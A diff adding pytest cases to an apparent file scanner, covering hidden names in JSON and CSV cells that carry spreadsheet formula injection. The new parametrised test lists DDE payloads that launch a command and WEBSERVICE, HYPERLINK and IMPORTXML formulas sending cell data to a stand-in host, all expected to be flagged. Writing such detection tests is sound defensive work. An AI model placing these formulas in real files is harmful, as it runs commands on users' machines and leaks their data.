@@ -24,6 +24,8 @@ JANE = "Jane Bloggs"
         ("a.json", b'[{"ward": "North", "who": "\\u004aane Bloggs"}, {"ward": "South", "days": 3}]'),
         ("a.json", f'{{"a": [1, 2, {{"b": "{JANE}"}}]}}'.encode()),
         ("a.geojson", f'{{"features": [{{"properties": {{"who": "{JANE}"}}, "geometry": null}}]}}'.encode()),
+        ("a.json", f'{{"{JANE}": 1}}'.encode()),
+        ("a.json", f'{{"a": 1}}\n{{"a": "{JANE}"}}\n'.encode()),
         ("a.txt", f"one\n\ntwo {JANE}".encode()),
         ("a.txt", f"£ {JANE}".encode("cp1252")),
     ],
@@ -72,3 +74,29 @@ def test_places_are_lines(tmp_path: Path) -> None:
         ("line 3", "x\nx\n"),
         ("line 9", "last"),
     ]
+
+
+def test_a_field_that_is_there_twice_is_told(tmp_path: Path) -> None:
+    found = look(tmp_path, "a.json", f'{{"a": "{JANE}", "a": "North"}}'.encode())
+    assert traced(found) == {"left-over"}
+    assert JANE in words(found)
+
+
+@pytest.mark.parametrize(
+    ("harmful", "cell"),
+    [
+        (True, "=cmd|'/c calc'!A1"),
+        (True, "+cmd|' /c calc'!A1"),
+        (True, '"=WEBSERVICE(""https://b.example/?""&A1)"'),
+        (True, '"=HYPERLINK(""https://b.example/?""&A1)"'),
+        (True, '=IMPORTXML("https://b.example/","//a")'),
+        (False, "=SUM(A1:A9)"),
+        (False, "-12"),
+        (False, '"=HYPERLINK(""https://anytown.example/"")"'),
+        (False, "a | 'b' and HYPERLINK(c & d)"),
+        (False, "Cost - see WEBSERVICE (old)"),
+    ],
+)
+def test_formulas_that_do_harm_are_told(harmful: bool, cell: str, tmp_path: Path) -> None:
+    found = look(tmp_path, "a.csv", f"ward,note\nNorth,{cell}\n".encode())
+    assert [(trace.kind, trace.where) for trace in found.traces] == ([("macros", "line 2")] if harmful else [])
